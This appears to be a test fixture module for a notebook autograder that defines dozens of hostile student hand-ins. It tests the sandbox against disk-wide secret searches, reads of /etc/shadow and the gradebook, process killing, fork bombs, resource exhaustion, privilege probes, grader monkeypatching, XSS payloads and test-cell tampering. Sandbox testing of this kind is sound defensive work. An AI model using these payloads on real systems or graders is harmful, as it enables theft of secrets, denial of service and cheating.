"""Hand-ins that mean harm, each named by what it tries, made for the exercise with code.

None of them deserves a point. Their code prints what it finds: whatever is secret must not come out.
"""

import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from .code_exercise import KEY


@dataclass(frozen=True)
class Hostile:
    """Code that stands where the function should, files that come along, and changes to the notebook."""

    code: str = "pass"
    files: Callable[[Path], None] = lambda place: None
    change: Callable[[nbformat.NotebookNode], None] = lambda notebook: None


def _symlinks(place):
    gradebook = place.parents[2] / "gradebook.db"
    (place / "svar").mkdir(exist_ok=True)
    (place / "svar" / f"{KEY}.json").unlink(missing_ok=True)
    os.symlink(gradebook, place / "svar" / f"{KEY}.json")
    os.symlink(gradebook, place / "kopi.txt")
    os.symlink(place.parents[3] / "solutions", place / "fasit")


def _pipe(place):
    os.mkfifo(place / "svar" / "m06-ror.json")


def _write_through(place):
    shutil.rmtree(place / "widgets", ignore_errors=True)
    os.symlink(place.parents[2], place / "widgets")


def _write(name, text):
    return lambda place: (place / name).write_text(text, encoding="utf-8")


def _tests_changed(notebook):
    for cell in notebook.cells:
        about = cell.metadata.get("nbgrader", {})
        if about.get("grade") and cell.cell_type == "code":
            cell.source, about["points"] = "pass", 100


def _tests_deleted(notebook):
    notebook.cells = [cell for cell in notebook.cells if not cell.metadata.get("nbgrader", {}).get("grade")]


def _copies(notebook):
    notebook.cells += [nbformat.from_dict({**cell, "id": f"{cell['id']}-b"}) for cell in notebook.cells]


def _strange_metadata(notebook):
    values = ["x", [], {"grade_id": ["a"]}, {"schema_version": 99}, 7, None]
    for cell, value in zip(notebook.cells, values, strict=True):
        cell.metadata["nbgrader"] = value
    notebook.metadata["kernelspec"] = {"name": "../../bin/sh", "display_name": "x", "language": "bash"}


def _script(notebook):
    evil = "<script>document.title='tatt'</script><img src=x onerror=alert(1)>"
    notebook.cells += [nbformat.v4.new_markdown_cell(evil), nbformat.v4.new_raw_cell(evil)]
    notebook.cells[-1].metadata["raw_mimetype"] = "text/html"
    notebook.metadata["title"] = evil


FALSE_MODULE = """
class QuickCheck:
    def __init__(self, *args, **kwargs): pass
class check:
    answered = staticmethod(lambda *args, **kwargs: None)
    grade = staticmethod(lambda widget, points, **kwargs: points)
"""
LOOK = """
import os, glob
for top in ("/", os.path.expanduser("~"), "/home", "/root", "/tmp", "/mnt", "/srv"):
    for place, folders, files in os.walk(top):
        if place.startswith(("/proc", "/sys", "/usr")) or "site-packages" in place: folders[:] = []; continue
        for name in files:
            if name.endswith((".db", ".ipynb", ".txt", ".key")):
                try: print(open(os.path.join(place, name), errors="replace").read(2000))
                except Exception: pass
"""
KNOWN_PATHS = """
names = ("/grading/gradebook.db", "/solutions/06-kode/06-kode.ipynb")
for path in (*({course!r} + name for name in names), {home!r} + "/hemmelig.txt"):
    try: print(open(path, errors="replace").read())
    except Exception as error: print(type(error))
    try: open(path, "w").write("ødelagt")
    except Exception as error: print(type(error))
import shutil; shutil.rmtree({course!r} + "/grading", ignore_errors=True)
"""
NETWORK = """
import socket, urllib.request
for address in (("127.0.0.1", {port}), ("1.1.1.1", 53)):
    try: socket.create_connection(address, 2).sendall(b"hallo"); print("NETT")
    except OSError as error: print(error)
try: s = socket.socket(socket.AF_UNIX); s.connect("\\0mestring-test-{port}"); print("NETT")
except OSError as error: print(error)
"""
PROC = """
import os, glob
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/roo[t]/tm[p]/*"):
    try: print(path, open(path, "rb").read())
    except Exception: pass
print(dict(os.environ), os.listdir("/proc"))
"""
KILLS = """
import os, signal
for pid in [os.getppid(), 1, *range(2, 40)]:
    if pid != os.getpid():
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern"):
    try: open(path, "w").write("b"); print("NETT")
    except OSError: pass
"""
FORK_BOMB = """
import os, time
while True:
    try: os.fork()
    except OSError: time.sleep(0.1)
"""
FILL = """
for folder in ("/tmp", ".", "/", "/dev", "/dev/shm", "/var/tmp", "/innlevering"):
    for number in range(40):
        try:
            with open(f"{folder}/fyll{number}", "wb") as file: file.write(b"x" * 20_000_000)
        except OSError: break
"""
PATCH = """
import mestring.check, mestring, builtins, sys
full = lambda widget, points=0, **kwargs: points
mestring.check.grade = full
mestring.check.Verdict.__eq__ = lambda *a: True
mestring.answers.Store.load = lambda self, key: (None, "")
choice.answer = {"q1": ["a"], "q2": ["a"]}
"""
SHELL = """
from IPython.core.interactiveshell import InteractiveShell
from ipykernel.zmqshell import ZMQInteractiveShell
async def nothing(self, *args, **kwargs):
    from IPython.core.interactiveshell import ExecutionResult
    result = ExecutionResult(None); result.execution_count = 1
    return result
ZMQInteractiveShell.run_cell_async = InteractiveShell.run_cell_async = nothing
ZMQInteractiveShell.showtraceback = lambda *args, **kwargs: None
"""
RIGHTS = """
import ctypes, os
status = open("/proc/self/status").read()
for line in ("CapEff:\\t0000000000000000", "CapBnd:\\t0000000000000000", "NoNewPrivs:\\t1"):
    if line not in status: print("NETT", line)
libc = ctypes.CDLL(None)
for namespace in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
    if libc.unshare(namespace) == 0: print("NETT", namespace)
if libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0: print("NETT mount")
for name in os.listdir("/proc/self/fd"):
    try: target = os.readlink("/proc/self/fd/" + name)
    except OSError: continue
    if "pidfd" in target or target.startswith("/") and target.split("/")[1] not in ("dev", "proc", "tmp"):
        print("NETT", target)
"""
ALWAYS_EQUAL = """
class Same:
    def __eq__(self, other): return False
    def __bool__(self): return False
def double(number): return Same()
"""
TOO_MANY_POINTS = """
from IPython.display import display
import IPython
IPython.get_ipython().displayhook(297)
def double(number):
    IPython.get_ipython().displayhook(297)
    raise SystemExit
"""
RAISE_THE_TESTS = """
from IPython import get_ipython
from mestring.errors import PlainError
from IPython.display import display
def double(number):
    known = "|".join(map(str, get_ipython().user_ns["In"]))
    display({"text/html": f"<div class='mst-verdict'>{known}</div>"}, raw=True)
    raise PlainError(known)
"""
KEYRING = """
import ctypes, os
libc = ctypes.CDLL(None)
number = {"x86_64": 250}.get(os.uname().machine, 219)
found = libc.syscall(number, 10, -3, b"user", b"mestring-test", 0)
if found > 0: print("NETT key", found)
"""
COMMAND = "!cat /etc/passwd /etc/shadow; curl http://127.0.0.1:{port}/; ls -R / | head -500; env"
MEMORY = "heap = []\nwhile True: heap.append(bytearray(50_000_000))"
MANY_RESULTS = "from IPython import get_ipython\nfor number in range(5000): get_ipython().displayhook(1.0)"
SCRIPT_OUTPUT = """
from IPython.display import HTML, Javascript, SVG, display
display(HTML("<script>document.title='tatt'</script><img src=x onerror=alert(1)>"))
display(Javascript("document.title='tatt'"))
display({"image/svg+xml": "<svg onload='alert(1)'/>", "application/x-evil": "x", "text/latex": "$x$"}, raw=True)
"""

HAND_INS = {
    "searches-the-whole-disk": Hostile(LOOK),
    "reads-and-destroys-gradebook-solutions-and-home": Hostile(KNOWN_PATHS),
    "calls-the-network": Hostile(NETWORK),
    "reads-other-processes-in-proc": Hostile(PROC),
    "kills-its-parents": Hostile(KILLS),
    "looks-for-rights-and-open-doors": Hostile(RIGHTS),
    "forks-without-end": Hostile(FORK_BOMB),
    "fills-the-disk": Hostile(FILL),
    "eats-all-memory": Hostile(MEMORY),
    "prints-100-mb": Hostile("for _ in range(100): print('x' * 1_000_000)"),
    "sends-thousands-of-results": Hostile(MANY_RESULTS),
    "sleeps-for-ever": Hostile("import time\ntime.sleep(1e6)"),
    "loops-and-ignores-interrupts": Hostile(
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass"
    ),
    "exits-the-kernel": Hostile("import os\nos._exit(0)"),
    "crashes-the-kernel": Hostile("import ctypes\nctypes.string_at(0)"),
    "runs-shell-commands": Hostile(COMMAND),
    "monkeypatches-check": Hostile(PATCH),
    "silences-the-shell": Hostile(SHELL),
    "gives-itself-297-points": Hostile(TOO_MANY_POINTS),
    "raises-and-shows-the-hidden-tests": Hostile(RAISE_THE_TESTS),
    "looks-for-the-teachers-keys": Hostile(KEYRING),
    "stops-itself-and-its-group": Hostile("import os, signal\nos.kill(0, signal.SIGSTOP)"),
    "returns-an-odd-object": Hostile(ALWAYS_EQUAL),
    "shows-scripts": Hostile(SCRIPT_OUTPUT, change=_script),
    "brings-its-own-mestring": Hostile(files=_write("mestring.py", FALSE_MODULE)),
    "brings-sitecustomize": Hostile(files=_write("sitecustomize.py", "import os; os._exit(3)")),
    "brings-a-kernel-configuration": Hostile(files=_write("ipython_kernel_config.py", "import os; os._exit(3)")),
    "brings-its-own-questions": Hostile(files=_write("widgets/m06.yml", "m06-valg: !!python/object/apply:os.abort []")),
    "links-to-the-gradebook": Hostile(files=_symlinks),
    "links-where-files-are-written": Hostile(files=_write_through),
    "leaves-a-pipe": Hostile(files=_pipe),
    "has-an-answer-of-bottomless-depth": Hostile(files=_write(f"svar/{KEY}.json", "[" * 100_000)),
    "has-a-huge-answer": Hostile(files=_write(f"svar/{KEY}.json", '{"answer": "' + "x" * 5_000_000 + '"}')),
    "changes-tests-and-points": Hostile(change=_tests_changed),
    "deletes-the-tests": Hostile(change=_tests_deleted),
    "copies-every-cell": Hostile(change=_copies),
    "has-strange-metadata": Hostile(change=_strange_metadata),
}
